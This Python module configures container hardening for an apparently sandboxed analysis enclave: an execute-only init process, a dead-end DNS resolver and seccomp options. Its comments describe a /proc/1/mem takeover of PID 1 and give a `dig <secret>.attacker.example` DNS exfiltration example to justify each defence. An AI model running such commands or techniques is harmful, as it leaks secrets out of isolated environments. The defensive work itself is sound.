"""The container settings workspaces and Spark nodes share: their first process, their resolver and
their security options."""

from __future__ import annotations

from . import seccomp

# The container's first process (the images' ENTRYPOINT). Docker's own init (`init: True`) is a
# file the analyst can read, so it would run dumpable: the analyst's code could rewrite PID 1 through
# /proc/1/mem to outlive the server, kill the server and answer on its port. This tini is
# execute-only, hence not dumpable, and exits when the server does, taking the container with it.
IMAGE_INIT = "/opt/enclave/bin/tini"

# The upstream resolver Docker's embedded DNS (127.0.0.11) forwards outside names to. Docker Engine
# before 26.0 forwards lookups from internal networks (CVE-2024-29018); a loopback resolver from the
# host's resolv.conf is even dialled from the host's namespace, so `dig <secret>.attacker.example`
# would leave the enclave. A resolver named here is dialled inside the container's own network
# namespace (measured on 20.10), where nothing listens on port 53: outside names fail inside the
# container, and no query reaches the host or beyond (tests/integration/security/test_dns.py).
DNS_NOWHERE = "127.0.0.1"


def security_opt() -> list[str]:
    """No new privileges, and Docker's default seccomp profile less every reach into another process."""
    return ["no-new-privileges:true", seccomp.security_opt()]
